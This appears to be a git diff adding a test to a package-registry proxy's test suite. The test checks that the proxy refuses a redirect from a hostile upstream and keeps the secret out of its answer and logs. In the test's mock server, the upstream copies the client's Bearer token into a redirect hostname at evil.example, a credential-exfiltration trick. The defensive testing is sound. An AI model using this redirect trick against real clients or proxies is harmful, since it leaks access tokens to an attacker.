@@ -78,6 +78,18 @@ describe('metadata redirects', () => {
     expect((await get(`${proxy.url}v3/flat/${id}/index.json`)).json()).toEqual({ versions: ['2.0.0'] });
   });
 
+  it('a redirect that echoes the credentials into the target name: refused, and the secret not in the answer', async () => {
+    hostile.on(`${FLAT}echo.redir/index.json`, (req, res) => {
+      const token = String(req.headers.authorization).replace(/^Bearer /, '');
+      res.writeHead(302, { location: `http://${token}.evil.example/index.json`, 'content-length': '0' }).end();
+    });
+    const r = await get(`${proxy.url}v3/flat/echo.redir/index.json`);
+    expect(r.status).toBe(502);
+    expect(r.json()).toEqual(refused('hostile'));
+    expect(`${JSON.stringify(r.headers)}${r.text}`).not.toContain(TOKEN);
+    expect(proxy.logs.lines.map((l) => JSON.stringify(l)).join('\n')).not.toContain(TOKEN);
+  });
+
   it('a registration index redirected off the upstream: 502, the target never asked', async () => {
     hostile.on(`${FLAT}redir.reg/index.json`, document('{"versions":["1.0.0"]}'));
     hostile.on('/v3/registration5-gz-semver2/redir.reg/index.json', redirectTo(`${other.origin}/index.json`));
